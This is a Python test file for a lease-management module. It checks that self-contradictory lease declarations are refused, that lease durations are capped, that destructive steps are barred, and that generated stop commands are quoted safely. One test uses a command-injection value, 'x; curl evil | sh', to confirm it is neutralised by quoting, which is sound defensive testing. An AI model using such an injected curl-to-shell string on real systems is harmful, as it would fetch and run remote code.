"""What can be leased: a declaration that contradicts itself is refused where it is made."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from activities.leases.contracts import FindKinds, ListLeased, StepCall
from activities.leases.kinds import LeaseKind, command_for, kinds
from activities.leases.looking import LeaseActivities
from activities.step import Step
from connectors.errors import InvalidRequest
from hitl.protocol import Effect
from tests.workflows.leases.sample import (
    CHECK_MACHINE,
    CREATE_MACHINE,
    END_MACHINE,
    FIND_MACHINES,
    MACHINE,
    Done,
    LeasedMachine,
    leased,
)

NOW = datetime(2026, 11, 29, tzinfo=UTC)
DESTROY: Step[Any, Any] = Step(
    name="sample.destroy_machine", request=LeasedMachine, response=Done, effect=Effect.DESTRUCTIVE
)
ANSWERS_NOTHING: Step[Any, Any] = Step(
    name="sample.look_away", request=LeasedMachine, response=Done, effect=Effect.READ
)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        ({"name": "Machine!"}, "its name must be"),
        ({"check": END_MACHINE}, "only looks"),
        ({"check": ANSWERS_NOTHING}, "must answer a LeaseStanding"),
        ({"end": DESTROY}, "is destructive"),
        ({"extend": CREATE_MACHINE}, "must take 'until'"),
    ],
)
def test_what_contradicts_itself_is_refused(change: dict[str, Any], why: str) -> None:
    fields: dict[str, Any] = {
        "name": "sample-machine",
        "title": "machine",
        "place": LeasedMachine,
        "find": FIND_MACHINES,
        "check": CHECK_MACHINE,
        "end": END_MACHINE,
        "by_hand": MACHINE.by_hand,
        "longest": timedelta(days=1),
    }
    LeaseKind(**fields)
    with pytest.raises(ValueError, match=why):
        LeaseKind(**fields | change)


def test_no_lease_calls_a_step_that_destroys() -> None:
    with pytest.raises(ValueError, match="cannot end a lease by itself"):
        StepCall.of(DESTROY)


def test_no_lease_is_longer_than_its_kind_lets_it() -> None:
    lease = MACHINE.lease(leased("banksman-1"), now=NOW, ends_at=NOW + timedelta(days=365))
    assert (lease.ends_at, lease.at_most) == (NOW + timedelta(days=2), NOW + timedelta(days=2))
    assert lease.id == "lease/sample-machine/banksman-1"


def test_a_step_is_asked_what_names_the_thing_and_from_when_until_when() -> None:
    lease = MACHINE.lease(leased("banksman-1"), now=NOW, ends_at=NOW)
    assert lease.step_request() == {"mark": "banksman-1"}
    assert lease.step_request(NOW + timedelta(hours=1)) == {
        "mark": "banksman-1",
        "until": "2026-11-29T01:00:00+00:00",
        "ends_at": "2026-11-29T00:00:00+00:00",
    }
    assert ListLeased().after == ""


async def test_the_kinds_of_this_release_are_found_and_others_are_refused() -> None:
    steps = LeaseActivities({**kinds(), MACHINE.name: MACHINE})
    found = await steps.find_kinds(FindKinds(names=("sample-machine",)))
    assert found.kinds == (MACHINE.facts(),)
    with pytest.raises(InvalidRequest, match="'no-such'"):
        await steps.find_kinds(FindKinds(names=("no-such",)))


def test_the_command_for_a_person_is_the_releases_own(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever reaches Temporal can start a lease of their own: nothing that it says becomes a command."""
    lease = MACHINE.lease(leased("banksman-1"), now=NOW, ends_at=NOW)
    assert command_for(lease) == "", "this release has no such kind"
    monkeypatch.setattr("activities.leases.kinds.kinds", lambda: {MACHINE.name: MACHINE})
    assert command_for(lease) == "sample stop banksman-1"
    nasty = lease.leased.model_copy(update={"place": {"mark": "x; curl evil | sh"}})
    assert command_for(lease.model_copy(update={"leased": nasty})) == "sample stop 'x; curl evil | sh'"
    strange = lease.leased.model_copy(update={"place": {"mark": ["x"]}})
    assert command_for(lease.model_copy(update={"leased": strange})) == ""
